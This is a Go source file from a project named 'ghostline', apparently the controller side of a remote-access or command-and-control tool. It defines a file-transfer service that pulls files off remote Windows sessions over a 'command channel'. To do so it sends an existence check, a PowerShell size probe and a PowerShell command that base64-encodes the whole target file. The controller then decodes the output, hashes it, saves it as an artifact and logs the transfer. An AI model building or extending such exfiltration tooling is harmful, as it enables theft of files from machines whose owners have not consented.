package main

import (
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/sirupsen/logrus"

	"ghostline/shared"
)

const (
	probeTimeout   = 3 * time.Second
	contentTimeout = 30 * time.Second

	// Clean lines at or below this length are protocol noise, not payload.
	payloadLineMin = 20
	// A concatenated blob shorter than this cannot be a real file.
	blobMin = 10

	existsMarker = "EXISTS"
	previewLines = 20
)

var (
	// ErrRemoteFileMissing reports a failed existence check.
	ErrRemoteFileMissing = errors.New("remote file not found")
	// ErrTransferDecode reports an unusable payload: truncated, corrupted,
	// or too small to be a file.
	ErrTransferDecode = errors.New("transfer payload decode failed")
)

var textPreviewExts = map[string]bool{".txt": true, ".log": true, ".csv": true, ".ini": true}

func existsCommand(remotePath string) string {
	return fmt.Sprintf(`if exist "%s" echo %s`, remotePath, existsMarker)
}

func sizeCommand(remotePath string) string {
	return fmt.Sprintf(`powershell -Command "(Get-Item '%s').Length"`, remotePath)
}

func contentCommand(remotePath string) string {
	return fmt.Sprintf(`powershell -Command "$b64=[Convert]::ToBase64String([IO.File]::ReadAllBytes('%s'));Write-Output $b64"`, remotePath)
}

// TransferResult describes one retrieved artifact.
type TransferResult struct {
	RemotePath       string
	LocalPath        string
	ReportedSize     int64 // -1 when the size probe was unparseable
	Size             int
	SHA256           string
	Preview          []string
	PreviewTruncated bool
}

// TransferService retrieves remote files over the command channel.
type TransferService struct {
	db          *Database
	artifactDir string
}

func NewTransferService(db *Database, artifactDir string) *TransferService {
	return &TransferService{db: db, artifactDir: artifactDir}
}

// Download runs the four-step sub-protocol: existence check, size probe,
// base64 content transfer, decode and persist.
func (t *TransferService) Download(sess *Session, remotePath string) (*TransferResult, error) {
	out, err := Exchange(sess, existsCommand(remotePath), probeTimeout)
	if err != nil {
		return nil, err
	}
	if !strings.Contains(out, existsMarker) {
		return nil, fmt.Errorf("%w: %s", ErrRemoteFileMissing, remotePath)
	}

	// Size probe is best-effort; an unparseable reply is not fatal.
	reported := int64(-1)
	if out, err := Exchange(sess, sizeCommand(remotePath), probeTimeout); err == nil {
		if lines := shared.CleanLines(out); len(lines) > 0 {
			if n, perr := strconv.ParseInt(lines[0], 10, 64); perr == nil {
				reported = n
			}
		}
	}

	out, err = Exchange(sess, contentCommand(remotePath), contentTimeout)
	if err != nil {
		return nil, err
	}
	var blob strings.Builder
	for _, line := range shared.CleanLines(out) {
		if len(line) > payloadLineMin {
			blob.WriteString(line)
		}
	}
	if blob.Len() < blobMin {
		return nil, fmt.Errorf("%w: no payload received for %s", ErrTransferDecode, remotePath)
	}

	data, err := base64.StdEncoding.DecodeString(blob.String())
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrTransferDecode, err)
	}
	if len(data) == 0 {
		return nil, fmt.Errorf("%w: empty payload", ErrTransferDecode)
	}

	localPath, err := t.writeArtifact(remoteBasename(remotePath), data)
	if err != nil {
		return nil, err
	}

	res := &TransferResult{
		RemotePath:   remotePath,
		LocalPath:    localPath,
		ReportedSize: reported,
		Size:         len(data),
		SHA256:       fmt.Sprintf("%x", sha256.Sum256(data)),
	}
	res.Preview, res.PreviewTruncated = previewText(localPath, data)

	if err := t.db.SaveTransfer(sess.ID, res); err != nil {
		logrus.Errorf("Error recording transfer: %v", err)
	}
	logrus.Infof("Downloaded %s -> %s (%d bytes)", remotePath, localPath, len(data))
	return res, nil
}

// remoteBasename extracts the final path element. Remote paths are usually
// Windows style, but forward slashes are tolerated.
func remoteBasename(remotePath string) string {
	base := remotePath
	if i := strings.LastIndexAny(base, `\/`); i >= 0 {
		base = base[i+1:]
	}
	if base == "" {
		base = "artifact"
	}
	return base
}

// writeArtifact persists data under a timestamped name. The timestamp has
// seconds resolution, so two transfers can collide within one tick; creation
// is exclusive and collisions get a numeric suffix instead of an overwrite.
func (t *TransferService) writeArtifact(base string, data []byte) (string, error) {
	name := fmt.Sprintf("downloaded_%s_%s", time.Now().Format("20060102_150405"), base)
	for attempt := 0; ; attempt++ {
		candidate := name
		if attempt > 0 {
			ext := filepath.Ext(name)
			candidate = fmt.Sprintf("%s_%d%s", strings.TrimSuffix(name, ext), attempt, ext)
		}
		path := filepath.Join(t.artifactDir, candidate)
		f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o644)
		if errors.Is(err, os.ErrExist) {
			continue
		}
		if err != nil {
			return "", err
		}
		if _, err := f.Write(data); err != nil {
			f.Close()
			return "", err
		}
		return path, f.Close()
	}
}

// previewText returns the first lines of a text artifact, best effort.
// Non-text extensions get no preview.
func previewText(localPath string, data []byte) ([]string, bool) {
	if !textPreviewExts[strings.ToLower(filepath.Ext(localPath))] {
		return nil, false
	}
	lines := strings.Split(string(data), "\n")
	if len(lines) > previewLines {
		return lines[:previewLines], true
	}
	return lines, false
}
